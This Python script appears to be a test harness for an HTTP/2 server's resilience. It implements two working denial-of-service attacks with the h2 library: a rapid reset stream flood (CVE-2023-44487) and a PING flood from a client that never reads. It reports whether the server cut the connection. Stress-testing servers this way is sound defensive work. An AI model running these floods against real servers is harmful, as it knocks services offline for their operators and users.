"""HTTP/2 attacks driven by the Python `h2` library (an implementation independent of the
server's hyper/h2 and of the hand-written frames in tests/it/h2_abuse.rs), over h2c with
prior knowledge, or with `tls` over TLS with ALPN `h2` (the test server's certificate is
self-signed: not verified).

    h2_attacks.py ATTACK HOST PORT SECONDS [tls]

ATTACK is one of:

- `rapid_reset`: HEADERS (GET /ticker) then RST_STREAM (CANCEL), 100 streams per write,
  as fast as the socket takes them, reading everything the server sends (CVE-2023-44487);
- `ping_flood`: 1,000 PINGs per write from a client that never reads (4 KiB receive
  buffer).

Runs until the server cuts the connection or SECONDS passed, then prints one JSON line:
`{"attack": ..., "sent": frames or streams sent, "cut_after": seconds or null,
"goaway": the GOAWAY error code or null}`.
"""

import json
import select
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

CANCEL = h2.errors.ErrorCodes.CANCEL


TLS = False


def connect(host, port, recv_buffer=None):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if recv_buffer is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, recv_buffer)
    sock.connect((host, port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if TLS:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(sock, server_hostname="localhost")
        if sock.selected_alpn_protocol() != "h2":
            raise SystemExit("the server did not select ALPN h2")
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def send(sock, data, deadline):
    """Writes `data`; False when the budget ran out while blocked."""
    left = deadline - time.monotonic()
    if left <= 0:
        return False
    sock.settimeout(left)
    try:
        sock.sendall(data)
    except socket.timeout:
        return False
    return True


def rapid_reset(host, port, seconds):
    sock, conn = connect(host, port)
    start = time.monotonic()
    deadline = start + seconds
    headers = [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", "localhost"),
        (":path", "/ticker"),
    ]
    sent, cut_after, goaway = 0, None, None
    try:
        while time.monotonic() < deadline:
            # Read whatever the server sent (non-blocking), as a client would.
            while (TLS and sock.pending()) or select.select([sock], [], [], 0)[0]:
                data = sock.recv(65536)
                if not data:
                    raise ConnectionResetError("closed by the server")
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        goaway = int(event.error_code)
                    elif isinstance(event, h2.events.DataReceived):
                        conn.acknowledge_received_data(
                            event.flow_controlled_length, event.stream_id
                        )
            if goaway is not None:
                raise ConnectionResetError("GOAWAY")
            for _ in range(100):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers, end_stream=True)
                conn.reset_stream(stream, error_code=CANCEL)
                sent += 1
            if not send(sock, conn.data_to_send(), deadline):
                break
    except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
        cut_after = time.monotonic() - start
    finally:
        sock.close()
    return sent, cut_after, goaway


def ping_flood(host, port, seconds):
    sock, conn = connect(host, port, recv_buffer=4096)
    start = time.monotonic()
    deadline = start + seconds
    sent, cut_after = 0, None
    try:
        while time.monotonic() < deadline:
            for _ in range(1000):
                conn.ping(b"\x07" * 8)
                sent += 1
            if not send(sock, conn.data_to_send(), deadline):
                break
    except OSError:
        cut_after = time.monotonic() - start
    finally:
        sock.close()
    return sent, cut_after, None


ATTACKS = {"rapid_reset": rapid_reset, "ping_flood": ping_flood}


def main():
    global TLS
    attack, host, port, seconds = sys.argv[1:5]
    TLS = sys.argv[5:6] == ["tls"]
    sent, cut_after, goaway = ATTACKS[attack](host, int(port), float(seconds))
    print(
        json.dumps(
            {"attack": attack, "sent": sent, "cut_after": cut_after, "goaway": goaway}
        ),
        flush=True,
    )


if __name__ == "__main__":
    main()
